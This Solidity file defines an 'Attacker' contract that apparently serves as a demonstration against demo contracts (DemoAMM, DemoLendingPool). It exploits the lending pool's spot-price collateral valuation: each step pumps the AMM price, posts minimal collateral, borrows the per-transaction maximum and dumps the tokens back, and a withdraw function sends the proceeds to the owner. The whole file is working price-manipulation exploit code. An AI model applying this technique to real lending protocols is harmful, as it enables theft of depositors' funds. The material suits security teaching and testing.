// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {DemoAMM} from "./DemoAMM.sol";
import {DemoLendingPool} from "./DemoLendingPool.sol";
import {DemoToken} from "./DemoToken.sol";

/// @title Attacker
/// @notice Exploits DemoLendingPool's spot-price collateral valuation, one bounded slice per
/// transaction: pump WETHd on the AMM with USDd, post a little WETHd, borrow the per-transaction
/// maximum against its inflated value, dump WETHd back. Each `step` is one attack transaction.
contract Attacker {
    address public immutable owner;
    DemoLendingPool public immutable pool;
    DemoAMM public immutable amm;
    DemoToken public immutable usd;
    DemoToken public immutable weth;
    uint256 public steps;

    event Step(uint256 indexed step, uint256 borrowed, uint256 collateralPosted, uint256 profitSoFar);

    error NotOwner();
    error NothingToTake();

    constructor(DemoLendingPool pool_) {
        owner = msg.sender;
        pool = pool_;
        amm = pool_.amm();
        usd = pool_.debtToken();
        weth = pool_.collateralToken();
        usd.approve(address(amm), type(uint256).max);
        weth.approve(address(amm), type(uint256).max);
        weth.approve(address(pool_), type(uint256).max);
    }

    /// @notice One attack transaction. `pumpAmount` USDd moves the AMM price.
    function step(uint256 pumpAmount) external returns (uint256 borrowed) {
        if (msg.sender != owner) revert NotOwner();
        uint256 available = pool.liquidity();
        borrowed = available < pool.maxBorrowPerTx() ? available : pool.maxBorrowPerTx();
        if (borrowed == 0) revert NothingToTake();
        // 1. pump: buy WETHd with USDd, the spot price of WETHd rises
        uint256 bought = amm.swapExactIn(address(usd), pumpAmount, 0);
        // 2. post just enough WETHd for the loan at the inflated price
        uint256 price = amm.spotPrice();
        uint256 needed = (borrowed * 1e18 * 10_000) / (price * pool.LTV_BPS()) + 1;
        pool.postCollateral(needed);
        pool.borrow(borrowed);
        // 3. dump the rest of the WETHd back
        amm.swapExactIn(address(weth), bought - needed, 0);
        steps += 1;
        emit Step(steps, borrowed, needed, usd.balanceOf(address(this)));
    }

    /// @notice Send the proceeds to the owner.
    function withdraw() external {
        if (msg.sender != owner) revert NotOwner();
        usd.transfer(owner, usd.balanceOf(address(this)));
        weth.transfer(owner, weth.balanceOf(address(this)));
    }
}
